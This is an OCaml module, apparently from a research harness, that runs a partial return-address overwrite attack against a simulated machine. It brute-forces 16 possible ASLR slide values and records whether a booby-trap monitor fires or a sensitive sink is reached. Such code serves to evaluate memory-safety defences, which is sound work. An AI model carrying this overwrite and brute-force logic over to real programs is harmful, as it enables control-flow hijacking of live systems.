open R2c_machine

(* Sixteen slides cover the four slide bits inside the low 16. *)
let max_tries = 16

let run ~reference:(r : Reference.t) ~target:t =
  let tl = Report.tally t in
  (* PIROP diverts control without choosing arguments: reaching the
     sensitive sink at all (through handler_exec's legitimate body) is the
     win. *)
  let succeeded () = Oracle.sensitive_log t <> [] in
  let overwrite_len = r.ra_off - r.buf_off + 2 in
  let rec try_slide_bits k =
    if k >= max_tries then ()
    else if Oracle.detected t then
      Report.note tl "monitoring response (booby trap fired)"
    else if not (succeeded ()) then begin
      Report.attempt tl;
      let low16 = (r.exec_low16 + (k * 0x1000)) land 0xffff in
      let payload = Payload.fill (overwrite_len - 2) ^ Payload.le16 low16 in
      match Oracle.to_break t with
      | `Break ->
          Oracle.send t payload;
          let (_ : Process.outcome) = Oracle.resume_to_end t in
          if not (succeeded ()) then begin
            Oracle.restart t;
            try_slide_bits (k + 1)
          end
      | `Done o -> Report.note tl "service loop gone: %s" (Process.outcome_to_string o)
    end
  in
  try_slide_bits 0;
  Report.of_tally ~success:(succeeded ()) tl
